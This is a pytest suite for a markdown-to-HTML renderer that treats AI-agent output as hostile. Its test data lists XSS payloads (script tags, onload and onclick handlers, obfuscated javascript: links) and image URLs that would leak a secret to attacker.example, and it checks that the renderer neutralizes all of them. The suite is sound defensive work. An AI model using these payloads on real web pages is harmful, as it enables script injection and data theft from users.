"""What a model writes is hostile: as a page it does nothing, fetches nothing and leads nowhere by itself."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.web._markdown import to_html

TAGS = {"p", "em", "strong", "a", "code", "pre", "ul", "ol", "li", "blockquote", "h4", "h5", "h6", "hr", "br", "s"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "span"}


def test_what_agents_write_looks_as_meant() -> None:
    html = to_html("# Title\n\n**bold** `code`\n\n1. one\n2. two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "<h4>Title</h4>" in html
    assert "<strong>bold</strong> <code>code</code>" in html
    assert "<ol>\n<li>one</li>" in html
    assert "<td>1</td>" in html


def test_a_link_says_where_it_leads_and_opens_elsewhere() -> None:
    html = to_html("[the guide](https://docs.helpdesk.example/vpn)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert html.endswith('the guide</a> <span class="where">(docs.helpdesk.example)</span></p>\n')


@pytest.mark.requirement("F4")
@pytest.mark.parametrize(
    "text",
    [
        "![x](https://attacker.example/?q=secret)",
        "![x][1]\n\n[1]: https://attacker.example/?q=secret",
        "[![x](https://attacker.example/a.png)](https://docs.helpdesk.example/)",
        "<img src=https://attacker.example/>",
        "![](data:image/png;base64,AAAA)",
    ],
)
def test_no_image_is_fetched(text: str) -> None:
    assert tags_of(to_html(text)) <= TAGS


@pytest.mark.requirement("D7")
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<a href='https://attacker.example'>x</a>",
        "<iframe src=//attacker.example></iframe>",
        "<!-- <script>alert(1)</script> -->",
        "`<b>`<script>",
        "a\n\n<div onclick=alert(1)>\n\nb",
    ],
)
def test_html_is_shown_and_not_believed(text: str) -> None:
    assert tags_of(to_html(text)) <= TAGS
    assert "&lt;" in to_html(text)


@pytest.mark.requirement("D7")
@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "mailto:x@attacker.example",
        "/logout",
        "//attacker.example/",
        "https://docs.helpdesk.example@attacker.example/",
        "https:///",
        "#composer",
    ],
)
def test_a_link_leads_to_another_site_or_is_none(target: str) -> None:
    for text in (f"[click]({target})", f"[click](<{target}>)", f"<{target}>", f"[click][1]\n\n[1]: {target}"):
        assert "<a" not in to_html(text)


@pytest.mark.requirement("D7")
@given(st.text(alphabet=st.sampled_from("<>&\"'`[]()!*_#|- \n\\:/abscript=javonldt@."), max_size=80))
def test_nothing_but_our_own_markup_comes_out(text: str) -> None:
    html = to_html(text)
    assert tags_of(html) <= TAGS
    assert all(re.match(r'href="https?://', link) for link in re.findall(r'href="[^"]*"', html))
    assert not re.search(r"<[^>]+\son\w+=", html)


def test_a_text_without_end_is_cut() -> None:
    assert len(to_html("a " * 1_000_000)) < 300_000


def test_deep_nesting_does_no_harm() -> None:
    assert len(to_html("> " * 5000 + "x")) < 100_000
    assert len(to_html("[" * 5000 + "x")) < 100_000


def tags_of(html: str) -> set[str]:
    """The elements that a browser would make."""
    return {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z][^\s/>]*)", html)}
